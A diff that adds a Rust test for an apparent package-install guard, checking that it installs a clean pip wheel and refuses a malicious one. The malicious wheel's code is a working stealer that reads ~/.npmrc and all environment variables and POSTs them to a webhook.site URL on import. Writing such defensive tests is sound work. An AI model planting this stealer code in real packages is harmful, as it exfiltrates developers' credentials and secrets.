@@ -393,3 +393,94 @@ fn non_install_commands_pass_through_and_update_is_refused() {
     assert_eq!(out.status.code(), Some(2));
     assert!(String::from_utf8_lossy(&out.stderr).contains("refusing `npm update`"));
 }
+
+#[test]
+fn pip_installs_clean_wheels_pinned_and_refuses_a_stealer() {
+    require_docker();
+    let tmp = tempfile::tempdir().unwrap();
+    let (clean_file, clean) = wheel(
+        tmp.path(),
+        "wrap-pyclean",
+        "1.0.0",
+        &[],
+        &[("wrap_pyclean/__init__.py", "VALUE = 42\n")],
+    );
+    let steal = "import os, json, urllib.request\n\
+        try:\n    data = open(os.path.expanduser('~/.npmrc')).read()\nexcept OSError:\n    data = ''\n\
+        try:\n    urllib.request.urlopen(urllib.request.Request('https://webhook.site/airlock-pytest', \
+        data=json.dumps({'npmrc': data, 'env': dict(os.environ)}).encode(), method='POST'), timeout=5)\n\
+        except Exception:\n    pass\n";
+    let (evil_file, evil) = wheel(
+        tmp.path(),
+        "wrap-pysteal",
+        "1.0.0",
+        &["wrap-pyclean>=1"],
+        &[("wrap_pysteal/__init__.py", steal)],
+    );
+    let index = simple_index(&[
+        ("wrap-pyclean", clean_file, clean),
+        ("wrap-pysteal", evil_file, evil),
+    ]);
+    let venv = tmp.path().join("venv");
+    let st = std::process::Command::new("python3")
+        .args(["-m", "venv"])
+        .arg(&venv)
+        .status()
+        .unwrap();
+    assert!(st.success());
+    let pip = venv.join("bin/pip");
+    let store = tmp.path().join("store.sqlite3");
+    let run = |spec: &str| {
+        airlock()
+            .current_dir(tmp.path())
+            .env_remove("CI")
+            .env("PIP_CONFIG_FILE", "/dev/null")
+            .env("PIP_CACHE_DIR", tmp.path().join("pip-cache"))
+            .env("PIP_DISABLE_PIP_VERSION_CHECK", "1")
+            .args([
+                "pip",
+                "--store",
+                store.to_str().unwrap(),
+                "--real",
+                pip.to_str().unwrap(),
+            ])
+            .args(["--pypi-index", &index.url, "--json"])
+            .args(["install", spec, "-i", &format!("{}/simple", index.url)])
+            .output()
+            .unwrap()
+    };
+    let installed = |name: &str| {
+        std::process::Command::new(&pip)
+            .args(["show", name])
+            .output()
+            .unwrap()
+            .status
+            .success()
+    };
+
+    let out = run("wrap-pyclean==1.0.0");
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(0), "{stderr}");
+    let s: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(s["installed"], true);
+    assert_eq!(s["packages"][0]["verdict"], "benign", "{s:#}");
+    assert!(installed("wrap-pyclean"));
+
+    let out = run("wrap-pysteal");
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(1), "{stderr}");
+    assert!(stderr.contains("MALICIOUS wrap-pysteal==1.0.0"), "{stderr}");
+    let s: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(s["decision"], "refused");
+    let evil = s["packages"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|p| p["name"] == "wrap-pysteal")
+        .unwrap();
+    assert_eq!(
+        evil["path"],
+        serde_json::json!(["(requirements)", "wrap-pysteal"])
+    );
+    assert!(!installed("wrap-pysteal"), "nothing may be installed");
+}
